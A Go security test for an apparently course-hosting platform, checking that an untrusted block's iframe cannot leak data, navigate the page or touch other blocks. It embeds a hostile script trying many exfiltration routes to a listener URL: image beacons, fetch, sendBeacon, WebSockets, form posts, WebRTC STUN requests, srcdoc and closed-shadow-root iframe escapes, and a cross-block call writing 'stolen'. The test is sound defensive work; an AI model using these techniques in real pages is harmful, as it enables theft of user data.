package host_test

import (
	"fmt"
	"html"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// hostile is the script of a foreign block that tries to carry away what it can, with where it would carry it, by HTTP and by the
// datagrams of WebRTC. The last step says that all were tried.
const hostile = `<p id="state">trying</p><script>
const out = %q, stun = %q;
const calling = "const c = new RTCPeerConnection({iceServers: [{urls: '" + stun + "'}]}); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));";
const within = (mark) => "<script>" + calling + "<" + "/script>" + mark;
const framed = (set) => { const f = document.createElement("iframe"); set(f); return f; };
const loaded = (f, into) => new Promise((done) => { f.onload = done; into.append(f); setTimeout(done, 1000); });
const tries = [
  () => { new Image().src = out + "/image"; },
  () => fetch(out + "/fetch", {mode: "no-cors"}),
  () => fetch("/courses", {credentials: "include"}).then(() => fetch(out + "/read")),
  () => navigator.sendBeacon(out + "/beacon", "x"),
  () => { window.open(out + "/window"); },
  () => { top.location = out + "/top"; },
  () => { parent.document.title = "taken"; },
  () => { document.cookie = "a=b"; new Image().src = out + "/cookie?" + document.cookie; },
  () => { localStorage.setItem("a", "b"); },
  () => { const f = document.createElement("form"); f.action = out + "/form"; document.body.append(f); f.submit(); },
  () => navigator.serviceWorker.register("/blocks/stranger/native-stranger-1.0.0/probe.js"),
  () => { const s = document.createElement("script"); s.src = out + "/script"; document.head.append(s); },
  () => { const f = document.createElement("iframe"); f.src = out + "/frame"; document.body.append(f); },
  () => new WebSocket(out.replace("http", "ws") + "/socket"),
  () => eval(calling),
  () => loaded(framed((f) => { f.srcdoc = within(""); }), document.body),
  () => loaded(framed((f) => { f.src = "javascript:" + calling; }), document.body),
  () => { document.body.insertAdjacentHTML("beforeend", "<div>"); return loaded(framed((f) => { f.srcdoc = within(""); }), document.body.lastChild.attachShadow({mode: "closed"})); },
  () => { const d = document.createElement("div"); document.body.append(d); d.setHTMLUnsafe("<p><template shadowrootmode=closed><iframe srcdoc=\"" + within("").replaceAll('"', "&quot;") + "\"></iframe></template></p>"); },
  () => loaded(framed((f) => { f.src = "/"; setTimeout(() => { f.srcdoc = within(""); }, 50); }), document.body),
];
addEventListener("load", async () => {
  for (const attempt of tries) { try { await attempt(); } catch {} }
  // A port is asked for again, and another block is called through it: the page adds the block, the frame cannot name one.
  window.quoin.call("../../block-v1:Org+Evil+now+type@probe+block@victim/handlers/set", "stolen").catch(() => {});
  await window.quoin.call("set", "tried all").catch(() => {});
  location.href = out + "/navigate";
});
</script>`

// A foreign block's frame gets nothing out: an outside listener stays silent, the page stays where it is, other blocks keep
// what they hold (security R3).
func TestHostileFrameInBrowser(t *testing.T) {
	var mu sync.Mutex
	var heard []string
	outside := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		heard = append(heard, r.URL.String())
	}))
	defer outside.Close()
	datagrams, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer datagrams.Close()
	go func() {
		buffer := make([]byte, 2000)
		for {
			if _, _, err := datagrams.ReadFrom(buffer); err != nil {
				return
			}
			mu.Lock()
			heard = append(heard, "a datagram")
			mu.Unlock()
		}
	}()
	w := newWorld(t, options{})
	run := w.course(map[string]string{
		"course.xml": `<course url_name="now" org="Org" course="Evil"/>`,
		"course/now.xml": `<course display_name="Evil" start="&quot;2020-01-01T00:00:00Z&quot;"><chapter url_name="c"><sequential url_name="s"><vertical url_name="v">
			<stranger url_name="bad" html="` + html.EscapeString(fmt.Sprintf(hostile, outside.URL, "stun:"+datagrams.LocalAddr().String())) + `"/><probe url_name="victim" html="&lt;p&gt;victim&lt;/p&gt;"/></vertical></sequential></chapter></course>`,
	})
	b := w.newTab(t)
	user := w.account("ann", run, "")
	b.signIn("ann")
	b.open(unitPath(run, "v"))
	ann := w.enter(user)
	echo := blockPath(run, "stranger", "bad") + "/handlers/echo"
	w.eventually(func() bool { // the frame says through its own handler that it has tried all
		var reply struct{ Word string }
		ann.get(echo).must(200).json(&reply)
		return reply.Word == `"tried all"`
	})
	// What markup declares as a shadow root is none, so that nothing stands where the frame's first script cannot look.
	frame := blockPath(run, "stranger", "bad") + "/frame"
	if body := ann.get(frame).must(200, "RTCPeerConnection").body; strings.Contains(strings.ToLower(body), "shadowrootmode") || strings.Index(body, "attachShadow") > strings.Index(body, "trying") {
		t.Error("a frame's document does not begin by closing the ways out")
	}
	ann.get(unitPath(run, "v")).must(200).without("stolen")
	mu.Lock()
	defer mu.Unlock()
	if len(heard) > 0 {
		t.Errorf("the outside heard %v", heard)
	}
	if at := b.text(`location.pathname`); at != unitPath(run, "v") {
		t.Errorf("the page went to %s", at)
	}
	if title := b.text(`document.title`); title == "taken" {
		t.Error("the frame changed the page")
	}
}
